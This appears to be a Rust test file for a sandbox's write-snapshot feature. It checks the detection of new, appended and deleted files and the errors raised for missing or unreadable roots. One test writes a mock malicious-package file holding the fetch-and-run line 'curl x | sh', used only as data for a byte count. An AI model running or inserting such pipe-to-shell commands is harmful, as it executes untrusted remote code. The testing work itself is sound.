//! Writable-root snapshots and the writes derived from them.

use std::fs;
use std::path::PathBuf;

use rstest::{fixture, rstest};
use tempfile::TempDir;

use crate::{SandboxError, WriteSnapshot};

#[fixture]
fn work_dir() -> TempDir {
    let dir = TempDir::new().expect("temp dir");
    fs::write(dir.path().join("package.json"), "{}").expect("seed manifest");
    fs::create_dir(dir.path().join("lib")).expect("seed lib dir");
    fs::write(dir.path().join("lib/index.js"), "module.exports = 1;\n").expect("seed index");
    dir
}

fn capture(dir: &TempDir) -> WriteSnapshot {
    WriteSnapshot::capture(&[dir.path().to_path_buf()]).expect("snapshot")
}

#[rstest]
fn capture_walks_nested_directories(work_dir: TempDir) {
    let snapshot = capture(&work_dir);
    assert_eq!(snapshot.len(), 2);
}

#[rstest]
fn unchanged_tree_reports_no_writes(work_dir: TempDir) {
    let before = capture(&work_dir);
    let after = capture(&work_dir);
    assert!(before.writes_until(&after).is_empty());
}

#[rstest]
fn new_files_report_their_full_size(work_dir: TempDir) {
    let before = capture(&work_dir);
    fs::create_dir_all(work_dir.path().join("node_modules/evil")).expect("mkdir");
    fs::write(work_dir.path().join("node_modules/evil/payload.sh"), "curl x | sh\n")
        .expect("write payload");
    let after = capture(&work_dir);

    let writes = before.writes_until(&after);
    assert_eq!(writes.len(), 1);
    let (path, bytes) = writes.into_iter().next().expect("one write").into_parts();
    assert!(path.ends_with("node_modules/evil/payload.sh"));
    assert_eq!(bytes, 12);
}

#[rstest]
fn appended_files_report_growth(work_dir: TempDir) {
    let before = capture(&work_dir);
    let index = work_dir.path().join("lib/index.js");
    let mut contents = fs::read_to_string(&index).expect("read index");
    contents.push_str("exports.x = 2;\n");
    fs::write(&index, contents).expect("append index");
    let after = capture(&work_dir);

    let writes = before.writes_until(&after);
    assert_eq!(writes.len(), 1);
    assert_eq!(writes.first().map(|w| w.bytes_written()), Some(15));
}

#[rstest]
fn deleted_files_are_not_reported(work_dir: TempDir) {
    let before = capture(&work_dir);
    fs::remove_file(work_dir.path().join("package.json")).expect("remove manifest");
    let after = capture(&work_dir);
    assert!(before.writes_until(&after).is_empty());
}

#[test]
fn absent_roots_snapshot_as_empty() {
    let snapshot = WriteSnapshot::capture(&[PathBuf::from("/definitely/missing/root")])
        .expect("snapshot of missing root");
    assert!(snapshot.is_empty());
}

#[cfg(unix)]
#[test]
fn unreadable_directories_surface_snapshot_errors() {
    use std::os::unix::fs::PermissionsExt;

    let dir = TempDir::new().expect("temp dir");
    let locked = dir.path().join("locked");
    fs::create_dir(&locked).expect("mkdir");
    fs::set_permissions(&locked, fs::Permissions::from_mode(0o000)).expect("chmod");

    let result = WriteSnapshot::capture(&[dir.path().to_path_buf()]);
    fs::set_permissions(&locked, fs::Permissions::from_mode(0o755)).expect("restore chmod");

    // Root ignores directory permissions, so only assert when access was denied.
    if let Err(err) = result {
        assert!(matches!(err, SandboxError::Snapshot { .. }), "unexpected error: {err:?}");
    }
}
